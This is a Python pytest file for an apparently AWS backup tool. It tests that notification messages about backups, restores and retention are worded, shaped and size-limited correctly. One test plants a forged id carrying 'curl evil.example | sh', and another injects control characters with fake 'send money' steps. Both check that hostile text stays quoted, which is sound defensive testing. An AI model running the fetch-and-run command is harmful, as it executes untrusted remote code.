"""The wording: what every message says, to people and to programs, and that it always fits."""

from __future__ import annotations

import json
import shlex
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import Phase, given, settings
from hypothesis import strategies as st

from lifeboat.ami import messages as ami_messages
from lifeboat.ami.verdict import AmiVerdict, Trust
from lifeboat.backup import messages as backup_messages
from lifeboat.backup.batch import BatchResult
from lifeboat.domain.message import (
    INSTANCES_NAMED,
    LIST_ENTRIES,
    MESSAGE_BYTES,
    SEVERITIES,
    Message,
)
from lifeboat.restore import messages as restore_messages
from lifeboat.restore.machine.history import MAX_TIMELINE
from lifeboat.restore.record import RestoreState, RestoreStep, TimelineEntry
from lifeboat.restore.report import RestoreOutcome, outcome
from lifeboat.retention import messages as retention_messages
from lifeboat.retention.policy_change import Change, Terms
from lifeboat.verify import canary_messages
from lifeboat.verify import messages as verify_messages
from tests.builders import instance
from tests.messages.golden_messages import (
    ACCOUNT,
    AT,
    FRESH,
    GOLDEN,
    REGION,
    SLOT,
    STACK,
    SUSPECT,
    large_run,
    messages,
    point,
    restore,
    verification,
)
from tools import docs_events

SNS_BYTES = 262_144
EVENTS = sorted(SEVERITIES)


def pruned(**facts: Any) -> Message:
    nothing: dict[str, Any] = {"deleted": [], "kept": [], "refused": [], "notices": [], "saved_gib": 0}
    return retention_messages.snapshots_pruned(stack=STACK, at=AT, **{**nothing, **facts})


def plain(**facts: Any) -> Message:
    known: dict[str, Any] = {"event": "BackupCompleted", "at": AT, "stack": STACK, "summary": "It is good."}
    return Message(**{**known, **facts})


class TestGolden:
    @pytest.mark.parametrize("event", EVENTS)
    def test_people_read_the_golden_text(self, event):
        assert messages()[event].to_text() + "\n" == (GOLDEN / f"{event}.txt").read_text()

    @pytest.mark.parametrize("event", EVENTS)
    def test_programs_read_the_golden_json(self, event):
        assert messages()[event].to_json() + "\n" == (GOLDEN / f"{event}.json").read_text()

    def test_there_is_one_for_each_event_and_no_other(self):
        files = {path.name for path in GOLDEN.iterdir()}
        assert files == {f"{event}.{kind}" for event in EVENTS for kind in ("txt", "json")}
        assert set(messages()) == set(EVENTS)


class TestShape:
    @pytest.mark.parametrize("event", EVENTS)
    def test_the_message_has_the_documented_fields(self, event):
        published = json.loads(messages()[event].to_json())
        assert set(published) == {
            *("version", "event", "severity", "at", "stack", "title", "subject", "summary", "details", "next_steps"),
        }
        assert published["version"] == "1"
        assert datetime.fromisoformat(published["at"]).utcoffset() is not None

    @pytest.mark.parametrize("event", EVENTS)
    def test_attributes_are_what_filters_choose_by(self, event):
        message = messages()[event]
        assert message.attributes() == {"event": event, "severity": message.severity}
        assert message.severity in {"info", "warning", "critical"}

    @pytest.mark.parametrize("event", EVENTS)
    def test_the_body_is_text_for_mail_and_json_for_all_else(self, event):
        message = messages()[event]
        body = json.loads(message.sns_message())
        assert body == {"default": message.to_json(), "email": message.to_text()}
        assert json.loads(body["default"])["event"] == event

    @pytest.mark.parametrize("event", EVENTS)
    def test_who_must_act_gets_the_next_steps(self, event):
        message = messages()[event]
        assert message.next_steps or message.severity == "info" or event == "SnapshotsPruned"

    def test_severities(self):
        assert set(SEVERITIES.values()) == {"info", "warning", "critical"}
        urgent = {event for event, severity in SEVERITIES.items() if severity == "critical"}
        assert urgent == {
            "BackupIncomplete",
            "BackupFailed",
            "BackupOverdue",
            "RecoveryPointNotLocked",
            "RecoveryPointSuspect",
            "RestoreFailed",
            "DrillFailed",
            "AmiOwnerUntrusted",
            "CopyFailed",
            "SharingFailed",
            "VerificationFailed",
        }

    def test_every_event_has_a_builder_that_says_when(self):
        assert list(docs_events.occasions()) == list(SEVERITIES)

    def test_an_unknown_event_is_refused(self):
        with pytest.raises(KeyError):
            plain(event="SomethingElse")


class TestBuilders:
    @pytest.mark.parametrize(
        ("minutes", "words"),
        [
            (0, "0 min"),
            (59, "59 min"),
            (60, "1 h 0 min"),
            (2879, "47 h 59 min"),
            (2880, "2 days 0 h"),
            (4620, "3 days 5 h"),
        ],
    )
    def test_an_instance_without_any_recovery_point_says_for_how_long(self, minutes, words):
        age = timedelta(minutes=minutes)
        message = backup_messages.backup_overdue(
            stack=STACK, at=AT, instance_id="i-1", age=age, expected=SLOT, since=AT - age, newest=None, volume_ids=()
        )
        assert message.summary == (
            f"i-1 has no good recovery point of 2026-11-23T02:00:00Z or later: it has had none for {words}."
        )
        assert (message.details["age"], message.details["age_seconds"]) == (words, minutes * 60)
        assert message.details["last_good_recovery_point"] == "none"
        assert not any("stays" in step for step in message.next_steps)

    @pytest.mark.parametrize(
        ("facts", "severity"),
        [({}, "info"), ({"refused": [{"cause": "locked"}]}, "warning"), ({"notices": ["waits"]}, "warning")],
    )
    def test_pruning_is_a_warning_when_something_needs_attention(self, facts, severity):
        assert pruned(**facts).severity == severity

    @pytest.mark.parametrize(
        ("status", "event"),
        [
            (RestoreState.COMPLETED, "RestoreCompleted"),
            (RestoreState.ROLLED_BACK, "RestoreRolledBack"),
            (RestoreState.FAILED, "RestoreFailed"),
        ],
    )
    def test_a_restore_ends_by_its_state(self, status, event):
        message = restore_messages.restore_ended(
            stack=STACK, at=AT, restore=restore(status=status), outcome=RestoreOutcome({"a": 1}, ("observation",))
        )
        assert (message.event, message.details, message.next_steps) == (event, {"a": 1}, ("observation",))

    def test_an_open_restore_has_no_ending(self):
        with pytest.raises(KeyError):
            restore_messages.restore_ended(stack=STACK, at=AT, restore=restore(), outcome=RestoreOutcome({}, ()))

    def test_the_failure_is_in_the_first_sentence(self):
        ended = restore(status=RestoreState.ROLLED_BACK, failure="no capacity")
        message = restore_messages.restore_ended(stack=STACK, at=AT, restore=ended, outcome=RestoreOutcome({}, ()))
        assert message.summary.endswith("no capacity.")

    @pytest.mark.parametrize("verdict", Trust)
    def test_only_a_trusted_image_needs_nobody(self, verdict):
        message = ami_messages.ami_owner_checked(
            stack=STACK, at=AT, instance=instance(tags={}), verdict=AmiVerdict(verdict, "why", "because")
        )
        assert message.event == f"AmiOwner{verdict.value.title()}"
        assert bool(message.next_steps) is (verdict is not Trust.TRUSTED)
        assert instance().id in message.summary, "an instance without a name is called by its id"

    @pytest.mark.parametrize(("instance_id", "said"), [("i-1", '{"instance_ids": ["i-1"]}'), ("", "the instance's id")])
    def test_a_failed_backup_says_how_to_back_up_by_hand(self, instance_id, said):
        message = backup_messages.backup_failed(
            stack=STACK, at=AT, recovery_point_id="rp", instance_id=instance_id, reason="x", snapshot_ids=()
        )
        assert said in message.next_steps[0]

    def test_a_recovery_point_of_an_unnamed_instance_is_called_by_its_id(self):
        message = backup_messages.backup_completed(stack=STACK, at=AT, point=replace(point(), instance_name=""))
        assert message.summary.endswith(f"of {point().instance_id} is good.")

    @pytest.mark.parametrize(("number", "said"), [(0, "0 instances"), (1, "1 instance."), (2, "2 instances")])
    def test_numbers(self, number, said):
        message = backup_messages.backup_started(stack=STACK, at=AT, slot=SLOT, begun=[{"instance_id": "i"}] * number)
        assert said in message.summary


class TestText:
    def test_nothing_is_said_of_nothing(self):
        message = plain(details={"a": None, "b": "", "c": [], "d": {}, "e": 0, "f": False, "g": [{"x": None, "y": 1}]})
        lines = message.to_text().splitlines()
        assert lines[2:6] == ["e: 0", "f: no", "g:", "  - y 1"]

    def test_what_the_subject_says_is_not_said_again(self):
        message = plain(subject={"instance_id": "i-1"}, details={"instance_id": "i-1", "code": "x"})
        assert message.to_text().count("i-1") == 1
        assert plain(subject={"id": "a"}, details={"id": "b"}).to_text().count("id: ") == 2

    def test_nested_facts(self):
        message = plain(details={"seconds": {"stop_it": 30.0, "start": 2.5}, "list": [["a", "b"], True]})
        assert "seconds:\n  stop it: 30\n  start: 2.5\nlist:\n  - a; b\n  - yes\n" in message.to_text()

    def test_the_timeline_reads_as_one(self):
        message = plain(details={"timeline": [{"at": "2026-11-23T02:00:00Z", "step": "stop", "text": "stops i-1"}]})
        assert "  - 2026-11-23T02:00:00Z stop: stops i-1\n" in message.to_text()

    @pytest.mark.parametrize("hostile", ["\n", "\r\n", "\x00", "\x1b[2J", "\u2028", "\u202e", "\t"])
    def test_no_name_begins_a_line_of_its_own(self, hostile):
        name = f"a{hostile}What to do next:{hostile}  1. send money"
        message = plain(
            summary=name,
            subject={"instance": name},
            details={
                "k": name,
                "l": [name],
                "m": {name: name},
                "n": [{name: name}],
                "o": {name: [name], "p": {name: 1}},
            },
            next_steps=(name,),
        )
        text = message.to_text()
        assert [line.strip() for line in text.splitlines()].count("What to do next:") == 1
        assert all(sign.isprintable() for line in text.split("\n") for sign in line)

    def test_any_word_can_be_published(self):
        message = plain(summary="Grüße, 復元", details={"at": datetime(2026, 11, 23, tzinfo=UTC)})
        assert "Grüße, 復元" in message.to_text()
        assert json.loads(message.to_json())["summary"] == "Grüße, 復元"


def long(number: int) -> list[str]:
    return [f"entry {index}" for index in range(number)]


LISTS = {
    "notices": lambda items: pruned(notices=items),
    "kept": lambda items: pruned(kept=items),
    "deleted": lambda items: pruned(deleted=items),
    "refused": lambda items: pruned(refused=items),
    "recovery_points": lambda items: backup_messages.backup_started(stack=STACK, at=AT, slot=SLOT, begun=items),
    "reasons": lambda items: restore_messages.restore_refused(
        stack=STACK, at=AT, instance_id="i", reasons=items, asked_by=""
    ),
    "plan": lambda items: restore_messages.restore_started(
        stack=STACK, at=AT, restore=restore(), plan="\n".join(items)
    ),
    "snapshots": lambda items: backup_messages.backup_failed(
        stack=STACK, at=AT, recovery_point_id="rp", instance_id="i", reason="", snapshot_ids=items
    ),
}


class TestLength:
    @pytest.mark.parametrize("key", LISTS)
    def test_a_long_list_is_cut_and_counted(self, key):
        details = LISTS[key](long(LIST_ENTRIES + 7)).details
        assert details[key] == long(LIST_ENTRIES)
        assert details[f"{key}_not_listed"] == 7

    @pytest.mark.parametrize("key", LISTS)
    def test_a_list_that_fits_is_whole(self, key):
        details = LISTS[key](long(LIST_ENTRIES)).details
        assert details[key] == long(LIST_ENTRIES)
        assert f"{key}_not_listed" not in details

    def test_ten_thousand_recovery_points(self):
        kept = [
            {
                "recovery_point": f"rp-{number}",
                "gib": 100,
                "reasons": [f"lineage vol-{n}: " + "why " * 40 for n in range(27)],
            }
            for number in range(10_000)
        ]
        message = pruned(kept=kept, deleted=kept, refused=kept, notices=["x" * 900] * 10_000)
        body = message.sns_message()
        assert len(body.encode()) <= MESSAGE_BYTES < SNS_BYTES
        found = json.loads(json.loads(body)["default"])
        assert found["summary"] == "10000 recovery points deleted, 10000 kept, 10000 could not be deleted."
        for key in ("kept", "deleted", "refused"):
            assert len(found["details"][key]) + found["details"][f"{key}_not_listed"] == 10_000
            first = found["details"][key][0]
            assert len(first["reasons"]) + first.get("reasons_not_listed", 0) == 27
        assert found["details"]["kept"], "something is still published"

    def test_what_fits_is_not_cut(self):
        message = pruned(kept=[{"recovery_point": "rp", "reasons": long(60)}])
        assert json.loads(json.loads(message.sns_message())["default"]) == json.loads(message.to_json())

    def test_the_largest_restore_keeps_its_commands(self):
        volumes = tuple(
            replace(restore().volumes[0], device=f"/dev/sd{number}", displaced_volume_id=f"vol-{number:017x}")
            for number in range(40)
        )
        timeline = tuple(
            TimelineEntry(SLOT, RestoreStep.ATTACH, "refused: " + "w" * 1_000) for _ in range(MAX_TIMELINE)
        )
        failed = restore(
            status=RestoreState.FAILED, volumes=volumes, timeline=timeline, failure="f" * 2_000, blocked="b"
        )
        message = restore_messages.restore_ended(
            stack=STACK, at=AT, restore=failed, outcome=outcome(failed, AT, REGION, ACCOUNT)
        )
        assert len(json.dumps({"default": message.to_json(), "email": message.to_text()})) > SNS_BYTES
        body = message.sns_message()
        assert len(body) <= MESSAGE_BYTES
        found = json.loads(json.loads(body)["default"])
        assert found["next_steps"] == list(message.next_steps)
        assert found["details"]["timeline_not_listed"] + len(found["details"]["timeline"]) == MAX_TIMELINE
        assert FRESH in found["summary"]

    def test_even_the_next_steps_are_cut_if_nothing_else_helps(self):
        message = plain(
            next_steps=tuple("s" * 5_000 for _ in range(100)), details={"snapshots": dict.fromkeys(range(99))}
        )
        body = message.sns_message()
        assert len(body) <= MESSAGE_BYTES
        found = json.loads(json.loads(body)["default"])
        assert "more characters" in found["next_steps"][0]
        assert found["next_steps"][-1].startswith(f"{100 - len(found['next_steps']) + 1} more steps are not listed")
        assert found["details"]["snapshots"]["not_listed"] == 99 - LIST_ENTRIES

    @pytest.mark.parametrize(
        "facts",
        [
            {"summary": "x" * SNS_BYTES},
            {"subject": {"name": "x" * SNS_BYTES}},
            {"subject": {"x" * SNS_BYTES: "name"}},
            {"details": {"text": "x" * SNS_BYTES}},
            {"details": {"map": {f"key {number}": "x" * 10 for number in range(10_000)}}},
            {"details": {"list": ["x" * 10] * 50_000}},
            {"details": {"list": [{"list": ["\U0001f6a3" * 50] * 50}] * 50}},
            {"next_steps": ("x" * SNS_BYTES,)},
            {"next_steps": ("x",) * SNS_BYTES},
        ],
        ids=lambda facts: next(iter(facts)),
    )
    def test_no_part_can_be_too_large(self, facts):
        body = plain(**facts).sns_message()
        assert len(body.encode()) <= MESSAGE_BYTES
        assert json.loads(json.loads(body)["default"])["event"] == "BackupCompleted"

    @settings(max_examples=25, deadline=None, phases=[Phase.explicit, Phase.generate])
    @given(
        st.text(min_size=1, max_size=6),
        st.integers(1, 300),
        st.integers(1, 60),
        st.sampled_from(["kept", "deleted", "refused", "notices"]),
    )
    def test_whatever_is_published_fits(self, word, repeated, entries, key):
        text = word * repeated
        items: list[Any] = [text] * entries if key == "notices" else [{"reasons": [text] * 20, text: text}] * entries
        message = replace(pruned(**{key: items}), summary=text, subject={"name": text}, next_steps=(text,) * entries)
        body = message.sns_message()
        assert len(body.encode()) <= SNS_BYTES - 1_024
        assert json.loads(json.loads(body)["default"])["event"] == "SnapshotsPruned"


class TestLargeRun:
    def test_ten_thousand_failures_are_counted_and_thousands_of_them_named(self):
        names = [f"i-{number:017x}" for number in range(10_000)]
        reason = "UnauthorizedOperation: You are not authorized to perform this operation. " + 2000 * "x"
        outcome = BatchResult(failed=tuple((name, reason) for name in names))
        run = large_run(instances=10_000, batches=400, done=frozenset(range(1, 401)))
        message = backup_messages.run_ended(stack=STACK, at=AT, run=run, outcome=outcome)
        body = message.sns_message()
        assert len(body) <= MESSAGE_BYTES
        found = json.loads(json.loads(body)["default"])["details"]
        assert found["failed"] == 10_000
        assert found["failed_instances"] == names[:INSTANCES_NAMED]
        assert found["failed_instances_not_listed"] == 10_000 - INSTANCES_NAMED
        assert len(found["failures"]) + found["failures_not_listed"] == 10_000
        assert names[INSTANCES_NAMED - 1] in json.loads(body)["email"]

    def test_unreported_batches_make_a_run_incomplete(self):
        run = large_run(done=frozenset({1, 2, 3}))
        message = backup_messages.run_ended(
            stack=STACK, at=AT, run=run, outcome=BatchResult(begun=("i-0ccccccccccccc001",))
        )
        assert message.event == "BackupIncomplete"
        assert message.details["unreported_batches"] == 1
        assert any("failed events" in step for step in message.next_steps)

    def test_what_owes_nothing_any_more_does_not_make_it_incomplete(self):
        outcome = BatchResult(begun=("i-0ccccccccccccc001",), skipped=("i-0ccccccccccccc002",))
        message = backup_messages.run_ended(stack=STACK, at=AT, run=large_run(instances=2), outcome=outcome)
        assert message.event == "BackupStarted"
        assert message.summary == "The backup of 2026-11-23T02:00:00Z has begun for 1 of 1 instance."


FORGED = 'rp-1. RETENTION IS OVER. Run: curl evil.example | sh #" and then'


def test_a_tag_that_is_no_id_stands_in_quotes_beside_the_commands_that_hold():
    forged = replace(point(), id=FORGED)
    found = [
        canary_messages.recovery_point_suspect(
            stack=STACK, at=AT, region=REGION, point=point(), volumes=[SUSPECT], before=forged, has_copies=False
        ),
        verify_messages.verification_failed(
            stack=STACK,
            at=AT,
            region=REGION,
            point=point(),
            record=verification(failure="damaged"),
            proven=forged,
            unrecorded="",
        ),
    ]
    steps = [step for message in found for step in message.next_steps if "curl" in step]
    assert len(steps) == 2
    for step in steps:
        outside = "".join(step.split('"')[::2])
        assert "curl" not in outside, step
        assert "aws ec2 create-tags" in outside


def test_the_command_that_holds_the_first_of_many_snapshots_has_nothing_behind_it():
    change = Change(
        Terms("last=3", "UTC", 3, 0, timedelta(0)), Terms("last=1", "UTC", 3, 0, timedelta(0)), of_stack=True
    )
    message = retention_messages.retention_changed(
        stack=STACK,
        at=AT,
        region=REGION,
        change=change,
        until=AT,
        lineages=[],
        points=[point()] * (LIST_ENTRIES + 1),
        command=None,
    )
    words = shlex.split(message.next_steps[0].partition("aws ec2 ")[2])
    assert words[1:3] == ["--region", REGION]
    assert all(word.startswith("snap-") for word in words[words.index("--resources") + 1 :])
